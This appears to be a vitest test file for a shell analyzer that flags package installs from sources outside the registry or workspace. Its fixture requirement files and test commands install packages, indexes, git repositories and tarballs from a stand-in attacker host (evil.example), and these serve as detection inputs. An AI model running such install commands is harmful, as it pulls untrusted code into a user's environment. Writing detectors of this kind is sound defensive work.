// Installs from a source outside the registry (issue 11): a local folder or file outside the workspace, a
// tarball, a git or URL source, yarn's exec: protocol, a conda channel by URL, and the requirement files pip and
// uv read before installing (index options, -e lines, git and URL lines, -r chains). Real files in a temp folder;
// nothing is ever run. Installs from the registry and of the workspace's own folders stay quiet.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

const CATEGORY = 'package_install_from_unstated_source';
let p: DiskProject;

beforeAll(async () => {
  await loadShellParser();
  p = diskProject('inst-pkg-');
  p.write({
    'package.json': '{"name":"root","scripts":{"test":"vitest run"}}',
    'libs/local/setup.py': 'from setuptools import setup\nsetup()\n',
    'requirements.txt': '-r requirements/base.txt\nrequests==2.32.3\n-e .\n./libs/local\n',
    'requirements/base.txt': '--index-url https://pypi.org/simple\nnumpy  # pinned below\n',
    'req-index.txt': '--index-url https://evil.example/simple\nrequests\n',
    'req-extra.txt': 'requests\n--extra-index-url=https://evil.example/simple\n',
    'req-editable.txt': '-e git+https://evil.example/x.git#egg=x\n',
    'req-url.txt': 'x @ https://evil.example/x-1.0.tar.gz\n',
    'req-chain.txt': '-r nested/more.txt\n',
    'nested/more.txt': '-c ../constraints.txt\n',
    'constraints.txt': 'evil @ git+ssh://git@evil.example/x.git\n',
    'req-env.txt': '--index-url ${PIP_INDEX}\n',
    'req-outside.txt': `${'/'}tmp/../${'x'}\n`,
  });
  p.write({ [`${p.away}/package.json`]: '{"name":"evil","scripts":{"preinstall":"true"}}' });
});
afterAll(() => p.remove());

const categories = (command: string) => analyzeShellSync(command, p.env()).hits.map((h) => h.category);
const uncertain = (command: string) => analyzeShellSync(command, p.env()).uncertain.length > 0;

describe('an install from outside the registry is code from elsewhere', () => {
  it.each<[string, () => string]>([
    ['npm install of a folder outside', () => `npm install ${p.away}`],
    ['npm i of a relative folder outside', () => 'npm i ../away'],
    ['pnpm add of a folder outside', () => `pnpm add ${p.away}`],
    ['yarn add of a folder outside', () => `yarn add ${p.away}`],
    ['bun add of a folder outside', () => `bun add ${p.away}`],
    ['npm i file: outside', () => `npm i x@file:${p.away}`],
    ['yarn exec: protocol', () => 'yarn add x@exec:./gen.js'],
    ['npm i git+https', () => 'npm i git+https://evil.example/x.git'],
    ['npm i a tarball URL', () => 'npm i https://evil.example/y.tgz'],
    ['pip install of a folder outside', () => `pip install ${p.away}`],
    ['pip install -e outside', () => `pip install -e ${p.away}`],
    ['pip install --editable=outside', () => `pip install --editable=${p.away}`],
    ['python3 -m pip install outside', () => `python3 -m pip install ${p.away}`],
    ['pip install name @ file URL', () => `pip install "x @ file://${p.away}"`],
    ['pip install a wheel outside', () => `pip install ${p.away}/x-1.0-py3-none-any.whl`],
    ['pip install --find-links outside', () => `pip install --find-links ${p.away} x`],
    ['poetry add git+', () => 'poetry add git+https://evil.example/x.git'],
    ['poetry add of a folder outside', () => `poetry add ${p.away}`],
    ['uv add of a folder outside', () => `uv add ${p.away}`],
    ['uv pip install outside', () => `uv pip install ${p.away}`],
    ['pdm add a URL', () => 'pdm add https://evil.example/x.tar.gz'],
    ['conda channel by URL', () => 'conda install -c https://evil.example/ch x'],
    ['mamba channel by URL', () => 'mamba install --channel=https://evil.example/ch x'],
    ['cargo install --path outside', () => `cargo install --path ${p.away}`],
    ['npm exec --package outside', () => `npm exec --package=${p.away} -- x`],
    ['requirements --index-url', () => 'pip install -r req-index.txt'],
    ['requirements --extra-index-url=', () => 'pip install --requirement=req-extra.txt'],
    ['requirements -e git+', () => 'python3 -m pip install -r req-editable.txt'],
    ['requirements name @ URL', () => 'uv pip install -r req-url.txt'],
    ['requirements chain -r then -c', () => 'pip install -r req-chain.txt'],
    ['constraints file', () => 'pip install -c constraints.txt flask'],
    ['uv pip sync of a requirements file', () => 'uv pip sync req-index.txt'],
    ['uvx --from git+', () => 'uvx --from git+https://evil.example/x ruff check .'],
    ['uvx --from= a URL', () => 'uvx --from=https://evil.example/x.tar.gz tool'],
    ['uvx --with a folder outside', () => `uvx --with ${p.away} ruff check .`],
    ['uv tool run --from git+', () => 'uv tool run --from git+https://evil.example/x ruff'],
    ['pipx run --spec git+', () => 'pipx run --spec git+https://evil.example/x black .'],
  ])('%s', (_n, command) => {
    expect(categories(command())).toContain(CATEGORY);
  });
});

describe('requirement files that cannot be followed are uncertain', () => {
  it.each<[string, string]>([
    ['a line from the environment', 'pip install -r req-env.txt'],
    ['a file named at run time', 'pip install -r "$REQS"'],
    ['requirements from standard input', 'pip install -r -'],
    ['requirements by URL', 'pip install -r https://evil.example/r.txt'],
  ])('%s', (_n, command) => {
    expect(uncertain(command) || categories(command).includes(CATEGORY)).toBe(true);
  });
});

describe('installs from the registry and of the workspace stay quiet', () => {
  it.each<[string, string]>([
    ['npm install', 'npm install'],
    ['npm ci', 'npm ci'],
    ['npm i a name', 'npm i lodash@4'],
    ['npm i a scoped name', 'npm i -D @types/node'],
    ['npm i a workspace folder', 'npm i ./libs/local'],
    ['pip install a name', 'pip install requests==2.32.3'],
    ['pip install -e .', 'pip install -e .'],
    ['pip install .', 'pip install .'],
    ['pip install a workspace folder', 'pip install ./libs/local'],
    ['pip install -r a clean chain', 'pip install -r requirements.txt'],
    ['python3 -m pip install -r a clean chain', 'python3 -m pip install -r requirements.txt'],
    ['conda channel by name', 'conda install -c conda-forge numpy'],
    ['go install a module', 'go install golang.org/x/tools/cmd/goimports@latest'],
    ['cargo install --path .', 'cargo install --path .'],
    ['npx a tool with a workspace path', 'npx tsc -p libs/local'],
    ['pipx run with an outside operand after the package', 'pipx run black /tmp/x.py'],
    ['uvx a tool by name', 'uvx ruff check .'],
    ['uvx --from a registry name', 'uvx --from ruff==0.5.0 ruff check .'],
    ['uv tool run a tool by name', 'uv tool run ruff format --check .'],
  ])('%s', (_n, command) => {
    expect(categories(command)).not.toContain(CATEGORY);
    expect(analyzeShellSync(command, p.env()).uncertain).toEqual([]);
  });
});
